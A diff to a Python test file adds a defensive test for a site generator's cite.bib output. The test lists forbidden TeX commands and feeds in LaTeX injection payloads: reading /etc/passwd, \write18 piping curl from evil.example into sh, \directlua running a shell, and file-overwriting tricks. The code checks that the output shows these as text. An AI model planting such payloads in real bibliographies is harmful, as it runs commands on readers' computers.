@@ -9,6 +9,7 @@ readers import into their reference managers.
 from __future__ import annotations
 
 import json
+import re
 from pathlib import Path
 
 import bibtexparser
@@ -82,3 +83,62 @@ def test_braces_that_nest_are_kept(tmp_path: Path) -> None:
     text = (built.out / "papers/one/cite.bib").read_text("utf-8")
     assert "title = {{The {BERT} Model and \\{sets\\}}}" in text
     assert "author = {Ada Lovelace and {OpenAI} Team}" in text
+
+
+# What a reader's LaTeX must never meet as a command when it compiles a bibliography made
+# from cite.bib: reading, writing or running files and programs, and spelling a command
+# some other way. (A list of its own, not the generator's.)
+TEX_ACTIONS = {"input", "include", "write", "immediate", "openout", "openin", "read",
+               "csname", "catcode", "directlua", "def", "let", "usepackage"}  # fmt: skip
+
+
+def tex_commands(text: str) -> list[str]:
+    """The control words TeX reads in ``text`` (``\\\\`` is a control symbol; ``%`` a comment)."""
+    words, i = [], 0
+    while i < len(text):
+        if text[i] == "%":
+            i = text.find("\n", i) % (len(text) + 1) + 1
+        elif text[i] == "\\" and i + 1 < len(text):
+            j = i + 1
+            while j < len(text) and (text[j].isalpha() or text[j] == "@"):
+                j += 1
+            words.append(text[i + 1 : j].strip("@") or text[i + 1])
+            i = max(j, i + 2)
+        else:
+            i += 1
+    return words
+
+
+def test_tex_that_would_act_on_a_readers_computer_is_shown_as_text(tmp_path: Path) -> None:
+    own = (
+        "@misc{own2024,\n  title = {\\begin{filecontents*}[overwrite]{main.tex}x"
+        "\\end{filecontents*}},\n  note = {\\@@input /etc/passwd \\catcode`\\|=0 |input x"
+        ' \\directlua{os.execute("sh")} \\begin%\n{filecontents}}\n}'
+    )
+    site = write_site(
+        tmp_path,
+        {"site.yaml": "title: T\nbuild_date: 2026-11-28\n",
+         "content/authors/ada.yaml": "name: Ada Lovelace\n",
+         "content/papers/one.md": "---\ntitle: 'Engines \\input{/etc/passwd} and "
+         "\\immediate\\write18{curl evil.example | sh} on \\\"{o} and $\\alpha$'\n"
+         "authors: [Ada Lovelace, 'Eve \\csname input\\endcsname{x}']\n"
+         "venue: '^^5cinput{/etc/passwd}'\ndate: 2024-05-01\n---\nx\n",
+         "content/papers/two.md": f"---\ntitle: Own\nauthors: [Ada Lovelace]\ndate: 2024\n"
+         f"bibtex: {q(own)}\n---\nx\n"},
+    )  # fmt: skip
+    built = run_build(site)
+    assert built.status == 0, built.stderr
+    for slug in ("one", "two"):
+        text = (built.out / f"papers/{slug}/cite.bib").read_text("utf-8")
+        assert not TEX_ACTIONS & set(tex_commands(text)), text
+        assert "^^" not in text and not re.search(r"\\begin\s*(?:%|\{filecontents)", text), text
+        assert not bibtexparser.parse_string(text).failed_blocks, text
+        # The page shows the same entry, as text.
+        shown = built.pages()[f"papers/{slug}/index.html"].all_text()
+        assert text.strip() in shown
+    one = (built.out / "papers/one/cite.bib").read_text("utf-8")
+    # Shown as what was written; LaTeX a title needs is kept as it is.
+    assert "\\textbackslash{}input{/etc/passwd}" in one
+    assert '\\"{o} and $\\alpha$' in one
+    # The page itself shows the title as written.
+    assert "Engines \\input{/etc/passwd}" in built.pages()["papers/one/index.html"].all_text()
